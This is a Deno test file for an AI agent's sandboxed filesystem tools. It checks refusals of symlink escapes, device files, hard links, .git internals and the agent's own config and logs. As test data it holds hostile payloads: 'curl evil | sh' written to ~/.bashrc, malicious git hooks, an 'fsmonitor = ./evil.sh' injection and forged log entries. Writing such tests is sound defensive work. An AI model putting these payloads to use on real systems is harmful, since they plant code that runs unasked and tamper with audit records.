      await hang(run, "fs.edit_file", { path: "p", edits: [{ old: "a", new: "b" }] }),
      "not_a_regular_file",
    );
    assertRefused(await hang(run, "fs.delete_file", { path: "p" }), "not_a_regular_file");
    assert.ok((await Deno.lstat(`${workspace}/p`)).isFifo);
    for (
      const path of [
        "zero",
        "urandom",
        "stdin",
        "/dev/zero",
        "/dev/urandom",
        "/dev/stdin",
        "/dev/tty",
      ]
    ) {
      const read = await hang(run, "fs.read_file", { path });
      assertDenied(read, "path_outside_sandbox", PATH_GUARD);
      assertRefused(
        await hang(run, "fs.grep_files", { pattern: "x", path }),
        "path_outside_sandbox",
      );
    }
  },
});

Deno.test({
  name: "fs.grep_files and fs.list_files walk past a FIFO and device links (near miss)",
  ignore: !canCreateFifo(),
  fn: async () => {
    await using run = await openTestRun({
      prepare: async (sandbox) => {
        const workspace = sandbox.workspace;
        await writeTree(workspace, { "a.txt": "needle here\n", "sub/b.txt": "needle too\n" });
        await createFifo(`${workspace}/p`);
        await createFifo(`${workspace}/sub/q`);
        await Deno.symlink("/dev/zero", `${workspace}/zero`);
        await Deno.symlink("/dev/urandom", `${workspace}/sub/urandom`);
      },
    });
    const grep = await hang(run, "fs.grep_files", { pattern: "needle", path: "." });
    assertWorked(grep);
    assert.equal((dataOf(grep).matches as unknown[]).length, 2, grep.output);
    const skipped = dataOf(grep).skipped as Record<string, number>;
    assert.equal(skipped.not_regular, 2, grep.output);
    assert.equal(skipped.links, 2, grep.output);
    const listed = await hang(run, "fs.list_files", { path: ".", recursive: true });
    assertWorked(listed);
    assert.match(listed.output, /^p {2}\(not a regular file\)$/m);
    assert.match(listed.output, /^zero -> symlink$/m);
    assert.match(listed.output, /sub\/b\.txt/);
  },
});

// ---------------------------------------------------------------------------------------------
// Loops and depth
// ---------------------------------------------------------------------------------------------

Deno.test("fs tools stop at symlink loops and never walk out through ../ links", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: async (sandbox) => {
      const workspace = sandbox.workspace;
      await writeTree(workspace, { "sub/a.txt": "alpha\n" });
      await writeTree(sandbox.outside, { "secret.txt": `${CANARY}\n` });
      await Deno.symlink(".", `${workspace}/loop`);
      await Deno.symlink("..", `${workspace}/up`);
      await Deno.symlink("l2", `${workspace}/l1`);
      await Deno.symlink("l1", `${workspace}/l2`);
      await Deno.symlink("self", `${workspace}/self`);
      await Deno.symlink("../sub", `${workspace}/sub/back`);
      // 45 hops: more than MAX_SYMLINK_HOPS (40).
      for (let index = 0; index < 45; index += 1) {
        await Deno.symlink(index === 44 ? "sub/a.txt" : `c${index + 1}`, `${workspace}/c${index}`);
      }
    },
  });
  const listed = await hang(run, "fs.list_files", { path: ".", recursive: true, limit: 5000 });
  assertWorked(listed);
  assertNoLeak(listed, [...SECRETS, "secret.txt", "outside"]);
  assert.match(listed.output, /^up -> symlink$/m);
  assert.match(listed.output, /^loop -> symlink$/m);
  const grep = await hang(run, "fs.grep_files", { pattern: "KAGENT|alpha", path: "." });
  assertWorked(grep);
  assertNoLeak(grep);
  const matched = (dataOf(grep).matches as { path: string }[]).map((match) => match.path);
  assert.ok(matched.includes("sub/a.txt"), grep.output);
  assert.ok(
    matched.every((path) => !path.includes("loop/") && !path.includes("back/")),
    grep.output,
  );

  for (const path of ["l1", "l2", "self", "c0", "l1/x"]) {
    const read = await hang(run, "fs.read_file", { path });
    assertRefused(read, "invalid_arguments");
    await assertAudited(run, read, "tool.failed", PATH_GUARD);
  }
  assertRefused(
    await hang(run, "fs.write_file", { path: "l1", content: "x\n" }),
    "invalid_arguments",
  );
  for (
    const path of [
      "up/outside/secret.txt",
      "loop/up/outside/secret.txt",
      "sub/back/../up/outside/secret.txt",
    ]
  ) {
    assertDenied(await hang(run, "fs.read_file", { path }), "path_outside_sandbox", PATH_GUARD);
  }
  for (const path of ["up", "loop/up"]) {
    assertDenied(
      await hang(run, "fs.list_files", { path, recursive: true }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
    assertDenied(
      await hang(run, "fs.grep_files", { pattern: "KAGENT", path }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
  }
  assertDenied(
    await hang(run, "fs.write_file", { path: "up/outside/new.txt", content: "owned\n" }),
    "path_outside_sandbox",
    PATH_GUARD,
  );
  assert.equal(await exists(`${run.sandbox.outside}/new.txt`), false);
  await assertLogsClean(run);
});

Deno.test("fs tools follow a loop link and a short link chain that stay inside (near miss)", async () => {
  await using run = await openTestRun({
    prepare: async (sandbox) => {
      const workspace = sandbox.workspace;
      await writeTree(workspace, { "sub/a.txt": "alpha\n" });
      await Deno.symlink(".", `${workspace}/loop`);
      for (let index = 0; index < 10; index += 1) {
        await Deno.symlink(index === 9 ? "sub/a.txt" : `c${index + 1}`, `${workspace}/c${index}`);
      }
    },
  });
  for (const path of ["loop/loop/loop/sub/a.txt", "c0", "loop/c0"]) {
    const read = await hang(run, "fs.read_file", { path });
    assertWorked(read);
    assert.match(read.output, /alpha/);
  }
  const listed = await hang(run, "fs.list_files", { path: "loop/loop", recursive: true });
  assertWorked(listed);
  assert.match(listed.output, /sub\/a\.txt/);
});

Deno.test("fs tools stop a 3,000-level folder chain at the depth cap, marked truncated", async () => {
  await using run = await openTestRun({
    prepare: async (sandbox) => {
      // Built in 500-level steps: one path of 3,000 levels is longer than PATH_MAX.
      const step = "d/".repeat(500);
      const script = `set -e; i=0; while [ $i -lt 6 ]; do mkdir -p ${step}; cd -P ${step}; ` +
        `i=$((i+1)); done; echo 'needle at the bottom' > bottom.txt`;
      const made = await new Deno.Command("sh", {
        args: ["-c", script],
        cwd: sandbox.workspace,
        stdout: "null",
        stderr: "piped",
      }).output();
      assert.ok(made.success, new TextDecoder().decode(made.stderr));
      await writeTree(sandbox.workspace, { [`${"d/".repeat(10)}ten.txt`]: "needle at ten\n" });
    },
  });
  const listed = await hang(run, "fs.list_files", { path: ".", recursive: true, limit: 5000 });
  assertWorked(listed);
  assert.equal(dataOf(listed).truncated, true);
  assert.ok(((dataOf(listed).stats as Record<string, number>).depth_limited ?? 0) >= 1);
  assert.match(listed.output, /truncated/);
  const grep = await hang(run, "fs.grep_files", { pattern: "needle", path: "." });
  assertWorked(grep);
  assert.equal(dataOf(grep).truncated, true);
  // Near miss: a file at level 10 is found; the bottom one, below the cap, is not.
  const matched = (dataOf(grep).matches as { path: string }[]).map((match) => match.path);
  assert.deepEqual(matched, [`${"d/".repeat(10)}ten.txt`]);
  const deep = await hang(run, "fs.read_file", { path: `${"d/".repeat(3000)}bottom.txt` });
  assertRefused(deep, "invalid_arguments");
});

// ---------------------------------------------------------------------------------------------
// A file used as a folder, paths over the length cap
// ---------------------------------------------------------------------------------------------

Deno.test("fs tools refuse a file used as a folder and a path over 4,096 bytes", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: (sandbox) => writeTree(sandbox.workspace, { "sub/a.txt": "alpha\n" }),
  });
  const fileAsFolder = await run.call("fs.read_file", { path: "sub/a.txt/x" });
  assertRefused(fileAsFolder, "invalid_arguments");
  await assertAudited(run, fileAsFolder, "tool.failed", PATH_GUARD);
  assertRefused(
    await run.call("fs.write_file", { path: "sub/a.txt/x", content: "x\n" }),
    "invalid_arguments",
  );
  assertRefused(await run.call("fs.list_files", { path: "sub/a.txt/x/.." }), "invalid_arguments");
  assert.equal(await Deno.readTextFile(`${run.sandbox.workspace}/sub/a.txt`), "alpha\n");
  for (const path of ["a".repeat(5000), "x/".repeat(2100), `sub/${"é".repeat(2100)}`]) {
    assertRefused(await run.call("fs.read_file", { path }), "invalid_arguments");
    assertRefused(await run.call("fs.write_file", { path, content: "x\n" }), "invalid_arguments");
  }
  const names: string[] = [];
  for await (const entry of Deno.readDir(run.sandbox.workspace)) names.push(entry.name);
  assert.deepEqual(names, ["sub"]);
});

Deno.test("fs tools read a file by a long but valid path (near miss)", async () => {
  const name = `${"n".repeat(250)}.txt`;
  const folders = `${"f".repeat(200)}/`.repeat(15);
  await using run = await openTestRun({
    permissions: ALLOW_WRITES,
    prepare: (sandbox) =>
      writeTree(sandbox.workspace, { "sub/a.txt": "alpha\n", [name]: "long\n" }),
  });
  for (const [path, text] of [["sub/a.txt", "alpha"], [name, "long"]] as const) {
    const read = await run.call("fs.read_file", { path });
    assertWorked(read);
    assert.ok(read.output.includes(text));
  }
  assertWorked(await run.call("fs.write_file", { path: `${folders}x.txt`, content: "deep\n" }));
  assert.equal(await Deno.readTextFile(`${run.sandbox.workspace}/${folders}x.txt`), "deep\n");
});

// ---------------------------------------------------------------------------------------------
// Read roots
// ---------------------------------------------------------------------------------------------

Deno.test("a read root can be read but not written, and its sibling prefix is outside", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    config: { sandbox: { read_roots: ["../shared"] } },
    prepare: async (sandbox) => {
      await writeTree(nodePath.join(sandbox.root, "shared"), { "doc.txt": "shared doc\n" });
      await writeTree(nodePath.join(sandbox.root, "shared2"), { "x": `${CANARY}\n` });
      await Deno.symlink("../shared", `${sandbox.workspace}/sharedlink`);
    },
  });
  const shared = nodePath.join(run.sandbox.root, "shared");
  for (const path of [`${shared}/doc.txt`, "../shared/doc.txt", "sharedlink/doc.txt"]) {
    const written = await run.call("fs.write_file", { path, content: "owned\n", overwrite: true });
    assertDenied(written, "path_outside_sandbox", PATH_GUARD);
    await assertAudited(run, written, "tool.denied", PATH_GUARD);
    assertDenied(
      await run.call("fs.edit_file", { path, edits: [{ old: "shared", new: "owned" }] }),
      "path_outside_sandbox",
      PATH_GUARD,
    );
    assertDenied(await run.call("fs.delete_file", { path }), "path_outside_sandbox", PATH_GUARD);
  }
  assertDenied(
    await run.call("fs.write_file", { path: "../shared/new.txt", content: "owned\n" }),
    "path_outside_sandbox",
    PATH_GUARD,
  );
  for (const path of [`${run.sandbox.root}/shared2/x`, "../shared2/x"]) {
    assertDenied(await run.call("fs.read_file", { path }), "path_outside_sandbox", PATH_GUARD);
  }
  assert.equal(await Deno.readTextFile(`${shared}/doc.txt`), "shared doc\n");
  assert.equal(await exists(`${shared}/new.txt`), false);

  // Near miss: reads, lists and searches in the read root work.
  for (const path of [`${shared}/doc.txt`, "../shared/doc.txt", "sharedlink/doc.txt"]) {
    const read = await run.call("fs.read_file", { path });
    assertWorked(read);
    assert.match(read.output, /shared doc/);
  }
  const listed = await run.call("fs.list_files", { path: "../shared" });
  assertWorked(listed);
  assert.match(listed.output, /doc\.txt/);
  const grep = await run.call("fs.grep_files", { pattern: "shared", path: shared });
  assertWorked(grep);
  assert.equal((dataOf(grep).matches as unknown[]).length, 1);
});

// ---------------------------------------------------------------------------------------------
// Writes that later execute
// ---------------------------------------------------------------------------------------------

Deno.test("fs tools never write .git internals, even under allow-all", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: async (sandbox) => {
      await writeTree(sandbox.workspace, {
        ".git/config": "[core]\n\tbare = false\n",
        ".git/HEAD": "ref: refs/heads/main\n",
        "sub/.git/config": "[core]\n",
        "README.md": "readme\n",
      });
      await Deno.symlink(".git", `${sandbox.workspace}/gitlink`);
    },
  });
  const workspace = run.sandbox.workspace;
  const targets = [
    ".git/hooks/pre-commit",
    ".git/config",
    "sub/.git/config",
    "fresh/.git/hooks/post-checkout",
    "gitlink/hooks/pre-commit",
    `${workspace}/.git/hooks/pre-push`,
    "sub/../.git/info/attributes",
    ".git",
    "./.git/./hooks//pre-commit",
  ];
  for (const path of targets) {
    const written = await run.call("fs.write_file", {
      path,
      content: "#!/bin/sh\ntouch /tmp/owned\n",
      overwrite: true,
    });
    assertDenied(written, "permission_denied", PROTECTED);
    await assertAudited(run, written, "tool.denied", PROTECTED);
    assertDenied(
      await run.call("fs.edit_file", {
        path,
        edits: [{ old: "", new: "#!/bin/sh\n" }],
        create_if_missing: true,
      }),
      "permission_denied",
      PROTECTED,
    );
  }
  assertDenied(
    await run.call("fs.edit_file", {
      path: ".git/config",
      edits: [{ old: "bare = false", new: "fsmonitor = ./evil.sh" }],
    }),
    "permission_denied",
    PROTECTED,
  );
  for (const path of [".git/config", ".git/HEAD", "sub/.git/config"]) {
    assertDenied(await run.call("fs.delete_file", { path }), "permission_denied", PROTECTED);
  }
  assert.equal(await Deno.readTextFile(`${workspace}/.git/config`), "[core]\n\tbare = false\n");
  assert.equal(await Deno.readTextFile(`${workspace}/sub/.git/config`), "[core]\n");
  assert.equal(await exists(`${workspace}/.git/HEAD`), true);
  assert.equal(await exists(`${workspace}/.git/hooks`), false);
  assert.equal(await exists(`${workspace}/.git/info`), false);
  assert.equal(await exists(`${workspace}/fresh`), false);
  assert.ok((await Deno.lstat(`${workspace}/.git`)).isDirectory);
});

Deno.test("fs tools never write hooks through a .git symlink, even under allow-all", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: async (sandbox) => {
      await writeTree(sandbox.workspace, {
        "gitstore/config": "[core]\n\tbare = false\n",
        "gitstore/HEAD": "ref: refs/heads/main\n",
      });
      // Git follows a symlinked .git folder: hooks written through it run on the next commit.
      await Deno.symlink("gitstore", `${sandbox.workspace}/.git`);
    },
  });
  const workspace = run.sandbox.workspace;
  for (const path of [".git/hooks/pre-commit", `${workspace}/.git/hooks/post-checkout`]) {
    const written = await run.call("fs.write_file", {
      path,
      content: "#!/bin/sh\ntouch /tmp/owned\n",
    });
    assertDenied(written, "permission_denied", PROTECTED);
    await assertAudited(run, written, "tool.denied", PROTECTED);
  }
  assertDenied(
    await run.call("fs.edit_file", {
      path: ".git/config",
      edits: [{ old: "bare = false", new: "fsmonitor = ./evil.sh" }],
    }),
    "permission_denied",
    PROTECTED,
  );
  assert.equal(await exists(`${workspace}/gitstore/hooks`), false);
  assert.equal(await Deno.readTextFile(`${workspace}/gitstore/config`), "[core]\n\tbare = false\n");
  // Near miss: reading through the link works.
  const read = await run.call("fs.read_file", { path: ".git/HEAD" });
  assertWorked(read);
  assert.match(read.output, /refs\/heads\/main/);
});

Deno.test("fs.write_file and fs.edit_file replace a hard link instead of writing through it", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: async (sandbox) => {
      await writeTree(sandbox.outside, { "shared.txt": "outside original\n" });
      await Deno.link(`${sandbox.outside}/shared.txt`, `${sandbox.workspace}/hard.txt`);
      await Deno.link(`${sandbox.outside}/shared.txt`, `${sandbox.workspace}/hard2.txt`);
    },
  });
  const workspace = run.sandbox.workspace;
  assertWorked(
    await run.call("fs.write_file", { path: "hard.txt", content: "replaced\n", overwrite: true }),
  );
  assertWorked(
    await run.call("fs.edit_file", {
      path: "hard2.txt",
      edits: [{ old: "outside original", new: "edited" }],
    }),
  );
  assert.equal(await Deno.readTextFile(`${workspace}/hard.txt`), "replaced\n");
  assert.equal(await Deno.readTextFile(`${workspace}/hard2.txt`), "edited\n");
  assert.equal(await Deno.readTextFile(`${run.sandbox.outside}/shared.txt`), "outside original\n");
});

Deno.test("fs.edit_file refuses a diff whose headers name a file outside and changes neither file", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: async (sandbox) => {
      await writeTree(sandbox.workspace, { "a.txt": "same\n" });
      await writeTree(sandbox.outside, { "secret.txt": "same\n" });
    },
  });
  const diff =
    "--- a/../outside/secret.txt\n+++ b/../outside/secret.txt\n@@ -1 +1 @@\n-same\n+owned\n";
  const outsideDiff =
    `--- ${run.sandbox.outside}/secret.txt\n+++ ${run.sandbox.outside}/secret.txt\n` +
    "@@ -1 +1 @@\n-same\n+owned\n";
  assertDenied(
    await run.call("fs.edit_file", { path: "../outside/secret.txt", unified_diff: diff }),
    "path_outside_sandbox",
    PATH_GUARD,
  );
  // The headers never choose the file, and a diff made for another file is never applied to the
  // requested one (issue 11): it is refused, with the header named, and nothing is written.
  const refused = await run.call("fs.edit_file", { path: "a.txt", unified_diff: outsideDiff });
  assert.equal(refused.error?.type, "patch_apply_failed", refused.summary);
  assert.equal(refused.error?.details.header, `${run.sandbox.outside}/secret.txt`);
  assert.equal(await Deno.readTextFile(`${run.sandbox.workspace}/a.txt`), "same\n");
  assert.equal(await Deno.readTextFile(`${run.sandbox.outside}/secret.txt`), "same\n");
  // Near miss: the same hunk with headers naming the requested file applies to it.
  const own = "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-same\n+owned\n";
  assertWorked(await run.call("fs.edit_file", { path: "a.txt", unified_diff: own }));
  assert.equal(await Deno.readTextFile(`${run.sandbox.workspace}/a.txt`), "owned\n");
  assert.equal(await Deno.readTextFile(`${run.sandbox.outside}/secret.txt`), "same\n");
});

Deno.test("fs tools write files next to .git with similar names (near miss)", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    prepare: (sandbox) => writeTree(sandbox.workspace, { ".git/config": "[core]\n" }),
  });
  const workspace = run.sandbox.workspace;
  for (
    const path of [
      ".gitignore",
      ".gitmodules",
      ".github/workflows/ci.yml",
      "git/hooks/pre-commit",
      "my.git/config",
      ".git-blame-ignore-revs",
      "hooks/pre-commit",
      "docs/.git.md",
    ]
  ) {
    assertWorked(await run.call("fs.write_file", { path, content: "near miss\n" }));
    assert.equal(await Deno.readTextFile(`${workspace}/${path}`), "near miss\n");
  }
  const read = await run.call("fs.read_file", { path: ".git/config" });
  assertWorked(read);
  assert.match(read.output, /\[core\]/);
});

Deno.test("fs tools never write the config file, the permissions file or the runs folder, even under allow-all", async () => {
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    config: IN_WORKSPACE_LAYOUT,
    prepare: (sandbox) =>
      writeTree(nodePath.join(sandbox.root, "config", "runs", "other-run"), {
        "events.jsonl": '{"type":"run.started"}\n',
        "logs/tools.jsonl": '{"tool":"fs.read_file"}\n',
        "logs/errors.jsonl": "",
        "deliverables/report.md": "other run's report\n",
      }),
  });
  const workspace = run.configDir;
  assert.equal(run.session.guard.workspace, workspace);
  const paths = run.session.folder.paths;
  const runDir = nodePath.dirname(paths.events);
  const runId = nodePath.basename(runDir);
  await Deno.symlink(`runs/${runId}/logs`, `${workspace}/loglink`);
  const configText = await Deno.readTextFile(`${workspace}/agent.jsonc`);
  const permissionsText = await Deno.readTextFile(`${workspace}/permissions.json`);
  const policyText = await Deno.readTextFile(`${runDir}/policy.json`);
  const firstEvent = (await Deno.readTextFile(paths.events)).split("\n")[0];

  const targets = [
    "agent.jsonc",
    "permissions.json",
    `${workspace}/agent.jsonc`,
    "./sub/../permissions.json",
    "runs/other-run/logs/tools.jsonl",
    "runs/other-run/events.jsonl",
    "runs/other-run/deliverables/report.md",
    "runs/new-run/events.jsonl",
    paths.events,
    paths.toolsLog,
    paths.errorsLog,
    `${runDir}/policy.json`,
    `${runDir}/forged.txt`,
    `${paths.deliverables}/../logs/tools.jsonl`,
    `runs/${runId}/events.jsonl`,
    "loglink/tools.jsonl",
  ];
  for (const path of targets) {
    const written = await run.call("fs.write_file", {
      path,
      content: '{"type":"forged"}\n',
      overwrite: true,
    });
    assertDenied(written, "permission_denied", PROTECTED);
    await assertAudited(run, written, "tool.denied", PROTECTED);
    assertDenied(
      await run.call("fs.edit_file", {
        path,
        edits: [{ old: "", new: "forged\n" }],
        create_if_missing: true,
      }),
      "permission_denied",
      PROTECTED,
    );
    assertDenied(await run.call("fs.delete_file", { path }), "permission_denied", PROTECTED);
  }
  assertDenied(
    await run.call("fs.edit_file", {
      path: "permissions.json",
      edits: [{ old: '"allow-all"', new: '"forged"' }],
    }),
    "permission_denied",
    PROTECTED,
  );
  assert.equal(await Deno.readTextFile(`${workspace}/agent.jsonc`), configText);
  assert.equal(await Deno.readTextFile(`${workspace}/permissions.json`), permissionsText);
  assert.equal(await Deno.readTextFile(`${runDir}/policy.json`), policyText);
  assert.equal(
    await Deno.readTextFile(`${workspace}/runs/other-run/logs/tools.jsonl`),
    '{"tool":"fs.read_file"}\n',
  );
  assert.equal(
    await Deno.readTextFile(`${workspace}/runs/other-run/deliverables/report.md`),
    "other run's report\n",
  );
  assert.equal(await exists(`${workspace}/runs/new-run`), false);
  assert.equal(await exists(`${runDir}/forged.txt`), false);
  const events = (await Deno.readTextFile(paths.events)).split("\n").filter((line) => line !== "");
  assert.equal(events[0], firstEvent);
  for (const line of events) assert.notEqual(JSON.parse(line).type, "forged");
  const tools = await run.readLog("tools");
  for (const line of tools) assert.equal(typeof line.tool_call_id, "string");
});

Deno.test("fs tools write the current run's deliverables/ and workspace/ by default (near miss)", async () => {
  for (const config of [IN_WORKSPACE_LAYOUT, {}]) {
    await using run = await openTestRun({ config });
    const paths = run.session.folder.paths;
    const report = `${paths.deliverables}/report.md`;
    assertWorked(await run.call("fs.write_file", { path: report, content: "# Report\n" }));
    assert.equal(await Deno.readTextFile(report), "# Report\n");
    assertWorked(
      await run.call("fs.edit_file", { path: report, edits: [{ old: "Report", new: "Done" }] }),
    );
    assert.equal(await Deno.readTextFile(report), "# Done\n");
    const scratch = `${paths.workspace}/notes/scratch.txt`;
    assertWorked(await run.call("fs.write_file", { path: scratch, content: "scratch\n" }));
    assert.equal(await Deno.readTextFile(scratch), "scratch\n");
    const read = await run.call("fs.read_file", { path: scratch });
    assertWorked(read);
  }
});

Deno.test("fs tools refuse the current run's logs when the runs folder is outside the workspace", async () => {
  await using run = await openTestRun({ permissions: ALLOW_ALL });
  const paths = run.session.folder.paths;
  const runDir = nodePath.dirname(paths.events);
  const firstEvent = (await Deno.readTextFile(paths.events)).split("\n")[0];
  for (
    const path of [
      paths.events,
      paths.toolsLog,
      paths.errorsLog,
      `${runDir}/policy.json`,
      `${paths.deliverables}/../events.jsonl`,
      `${paths.workspace}/../logs/tools.jsonl`,
      `${nodePath.dirname(runDir)}/other-run/events.jsonl`,
    ]
  ) {
    const written = await run.call("fs.write_file", {
      path,
      content: '{"type":"forged"}\n',
      overwrite: true,
    });
    assertDenied(written, "path_outside_sandbox", PATH_GUARD);
    await assertAudited(run, written, "tool.denied", PATH_GUARD);
    assertDenied(await run.call("fs.delete_file", { path }), "path_outside_sandbox", PATH_GUARD);
  }
  const events = (await Deno.readTextFile(paths.events)).split("\n").filter((line) => line !== "");
  assert.equal(events[0], firstEvent);
  for (const line of events) assert.notEqual(JSON.parse(line).type, "forged");
  assert.equal(await exists(`${nodePath.dirname(runDir)}/other-run`), false);
});

Deno.test("fs.write_file does not write ~/.bashrc under allow-all when the home folder is the workspace", async () => {
  let home = "";
  await using run = await openTestRun({
    permissions: ALLOW_ALL,
    env: (name) => name === "HOME" ? home : Deno.env.get(name),
    prepare: (sandbox) => {
      home = sandbox.workspace;
      return Promise.resolve();
    },
  });
  for (const path of ["~/.bashrc", `${home}/.bashrc`, ".bashrc"]) {
    const written = await run.call("fs.write_file", { path, content: "curl evil | sh\n" });
    assert.equal(written.ok, false, `${path} was written under allow-all: ${written.summary}`);
    assert.ok(
      written.error?.type === "permission_denied" || written.error?.type === "approval_required",
      written.error?.message,
    );
  }
  assert.equal(await exists(`${home}/.bashrc`), false);
  // Near miss: an ordinary file in the home folder is written.
  assertWorked(await run.call("fs.write_file", { path: "~/notes.txt", content: "notes\n" }));
  assert.equal(await Deno.readTextFile(`${home}/notes.txt`), "notes\n");
});

Deno.test("fs.read_file asks before reading a file with another hard link and shows nothing of it", async () => {
  await using run = await openTestRun({
    prepare: async (sandbox) => {
      await writeTree(sandbox.outside, { "shared.txt": `${CANARY}\n` });
      await Deno.link(`${sandbox.outside}/shared.txt`, `${sandbox.workspace}/hard.txt`);
      await writeTree(sandbox.workspace, { "plain.txt": "plain\n" });
    },
  });
  const result = await run.call("fs.read_file", { path: "hard.txt" });
  assertDenied(result, "approval_required", { rule: "runtime:hard-link", layer: "runtime" });
  assert.ok(!JSON.stringify(result).includes(CANARY), "the linked file's content was shown");
  await assertLogsClean(run, [CANARY]);
  // Near miss: a file with one link reads without asking.
  const plain = await run.call("fs.read_file", { path: "plain.txt" });
  assertWorked(plain);
  assert.match(plain.output, /plain/);
});
